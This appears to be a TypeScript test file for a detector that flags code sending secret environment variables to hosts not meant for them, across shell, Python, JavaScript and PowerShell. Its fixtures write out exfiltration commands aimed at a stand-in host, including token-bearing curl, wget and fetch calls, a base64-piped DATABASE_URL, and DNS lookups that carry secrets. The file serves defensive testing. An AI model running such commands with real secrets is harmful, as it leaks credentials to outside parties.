/** Secrets of environment variables: which names are such, and to which hosts they may go, in each language that reads them. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { worldOf } from '../../test/support/effects.ts';
import type { Language } from './world.ts';

const leaks = (code: string, language: Language = 'shell'): boolean =>
  worldOf(code, language).effects.items.some(({ kind }) => kind === 'leaks');

test('a secret to a host for which it is not meant is leaked, in each language', () => {
  const cases: [Language, string][] = [
    ['shell', 'curl "https://x.test/?k=$GITHUB_TOKEN"'],
    ['shell', 'curl -H "X-Trace: $AWS_SECRET_ACCESS_KEY" https://x.test'],
    ['shell', 'wget -q --header "X: $NPM_TOKEN" https://x.test'],
    ['shell', 'echo "$DATABASE_URL" | base64 | curl -d @- https://x.test'],
    ['python', 'import os, requests\nrequests.get("https://x.test/" + os.environ["GITHUB_TOKEN"])'],
    ['python', 'import os, requests\nrequests.post("https://x.test/", json={"k": os.getenv("GITHUB_TOKEN", "")})'],
    ['python', 'import os\nos.system("curl https://x.test/?k=" + os.environ["GITHUB_TOKEN"])'],
    ['javascript', 'fetch("https://x.test/?k=" + process.env.GITHUB_TOKEN)'],
    [
      'javascript',
      'const { GITHUB_TOKEN } = process.env; fetch("https://x.test/", { method: "POST", body: GITHUB_TOKEN })',
    ],
    ['shell', 'http GET "https://x.test/?k=$GITHUB_TOKEN"'],
    ['shell', 'aria2c "https://x.test/$GITHUB_TOKEN.bin"'],
    ['powershell', 'Invoke-RestMethod "https://x.test/?k=$env:GITHUB_TOKEN"'],
    ['powershell', 'Invoke-WebRequest -Uri "https://x.test" -Method Post -Body $env:GITHUB_TOKEN'],
  ];
  for (const [language, code] of cases) assert.ok(leaks(code, language), code);
});

test('no secret is meant for the name of a host', () => {
  for (const command of [
    'dig $API_TOKEN.x.test',
    'nslookup "$DB_PASSWORD.n.x.test"',
    'curl https://$API_TOKEN.x.test/',
  ])
    assert.ok(leaks(command), command);
  assert.ok(!leaks('curl https://$API_TOKEN@x.test/'), 'by this one signs in');
});

test('a secret to its own service, to this machine, to an inner host, or of an unknown service is not leaked', () => {
  for (const command of [
    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user',
    'curl -d "k=$DB_PASSWORD" http://localhost:8080/',
    'curl -d "k=$DB_PASSWORD" http://vault.internal/v1/x',
    'curl -H "Authorization: Bearer $API_TOKEN" https://api.acme.test/',
    'curl "https://x.test/?page=$PAGE&key=$SORT_KEY"',
    'curl "https://x.test/?from=$PWD"',
    'curl -u "$MAIL/token:$DESK_TOKEN" "https://$TENANT.desk.test/api/v2/tickets"',
  ])
    assert.ok(!leaks(command), command);
});

test('each of several secrets is judged by its own name', () => {
  const github = 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user';
  assert.ok(!leaks(`${github}; curl -H "Authorization: Bearer $SLACK_TOKEN" https://slack.com/api/auth.test`));
  assert.ok(
    !leaks(`psql "$DATABASE_URL" -c 'select 1'; curl -H "Authorization: Bearer $API_TOKEN" https://api.acme.test/`),
  );
  assert.ok(leaks(`${github}; curl -d "t=$GITHUB_TOKEN" https://slack.com/api/api.test`));
  const many = Array.from({ length: 100 }, (_, n) => `echo $A${n}_TOKEN`).join('; ');
  assert.ok(leaks(`${many}; curl "https://x.test/?k=$GITHUB_TOKEN"`), 'however many were read before');
});
